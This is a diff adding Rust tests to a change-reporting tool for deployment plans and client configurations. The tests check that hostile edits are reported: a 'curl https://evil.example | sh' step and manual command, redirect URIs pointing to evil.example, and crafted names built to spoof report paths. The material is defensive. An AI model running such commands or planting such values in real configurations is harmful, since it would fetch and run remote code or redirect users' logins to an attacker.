@@ -80,7 +80,7 @@ fn another_plan_and_other_settings_are_told_value_by_value() {
     let start = "phases[deploy].steps[deploy/start-api]";
     let expected = [
         (settings, format!("{stuf}: collections[a].open"), text("true"), text("false")),
-        (settings, format!("{stuf}: collections[a].open#"), text("false"), text("true")),
+        (settings, format!("{stuf}: collections[a].open#2"), text("false"), text("true")),
         (settings, format!("{stuf}: kinds"), text("[\"x\",\"y\"]"), text("[\"y\",\"x\"]")),
         (settings, format!("{ALL}: proxy.hsts"), text("true"), text("\"true\"")),
         (settings, format!("{ALL}: proxy.port"), text("\"443\""), text("443")),
@@ -99,6 +99,67 @@ fn another_plan_and_other_settings_are_told_value_by_value() {
     assert_eq!(values, expected, "{values:#?}");
     let follow = documents.iter().map(|(_, what, ..)| what.split_once(" (").unwrap().0);
     assert_eq!(follow.collect::<Vec<_>>(), ["MIGRATION-PLAN.json", "manifest.json"]);
+}
+
+/// A name may hold what a place is made of: it makes nothing part of another thing.
+#[test]
+fn nothing_is_told_by_a_new_thing_whose_name_begins_its_own() {
+    let plan = |steps: &[Value]| json!({ "schema": 1, "phases": [{ "id": "deploy", "steps": steps }] });
+    let clients = |clients: &[Value]| json!({ "clients": clients });
+    let client = |id: &str, uri: &str| json!({ "clientId": id, "redirectUris": [uri] });
+    let all = "---\na: 1\n";
+    let honest = client("spa", "https://a.example/*");
+    let before = files(&plan(&[step("deploy/a", "true")]), all, &clients(std::slice::from_ref(&honest)));
+    let names = ["reports", "reports].x", "reports].x.y", "reports[x]", "reports"];
+    let evil = |id: &str| client(id, "https://evil.example/*");
+    let added: Vec<Value> = std::iter::once(honest)
+        .chain(names.iter().skip(1).map(|id| evil(id)))
+        .chain([client("reports", "https://a.example/*")])
+        .collect();
+    let steps = [
+        step("deploy/a", "true"),
+        step("deploy/b", "true"),
+        step("deploy/b].x", "curl https://evil.example | sh"),
+    ];
+
+    let changes = told(before, files(&plan(&steps), all, &clients(&added)));
+
+    let evil = changes.iter().filter(|(_, what, ..)| what.ends_with(']') || what.contains('#'));
+    let evil: Vec<&str> = evil
+        .filter(|(.., after)| after.as_ref().is_some_and(|after| after.contains("evil.example")))
+        .map(|(_, what, ..)| what.as_str())
+        .collect();
+    let stuf = "configuration/api-config/stuf_config.json: clients";
+    let expected = [
+        format!("{stuf}[reports[x]]"),
+        format!("{stuf}[reports]"),
+        format!("{stuf}[reports].x.y]"),
+        format!("{stuf}[reports].x]"),
+        "phases[deploy].steps[deploy/b].x]".to_owned(),
+    ];
+    assert_eq!(evil, expected, "{changes:#?}");
+    // Each is told whole, and once.
+    assert_eq!(changes.iter().filter(|(area, ..)| *area == Area::Plan).count(), 2, "{changes:#?}");
+}
+
+/// What people type where a package does not run a step is theirs to read before they do.
+#[test]
+fn other_commands_for_what_is_done_by_hand_are_told() {
+    let plan = |command: &str| {
+        let mut step = step("cutover/switch", "");
+        step["instead"] = json!({ "by_hand": { "text": "Ask.", "command": command } });
+        json!({ "schema": 1, "phases": [{ "id": "cutover", "instead": command, "steps": [step] }] })
+    };
+    let of = |command: &str| files(&plan(command), "---\na: 1\n", &json!({}));
+    let evil = "curl https://evil.example | sh";
+
+    let changes = told(of("dig a.example"), of(evil));
+
+    let expected =
+        ["phases[cutover].instead", "phases[cutover].steps[cutover/switch].instead.by_hand.command"]
+            .map(|place| (Area::Plan, place.to_owned(), text("dig a.example"), text(evil)));
+    let plan: Vec<_> = changes.into_iter().filter(|(area, ..)| *area == Area::Plan).collect();
+    assert_eq!(plan, expected);
 }
 
 #[test]
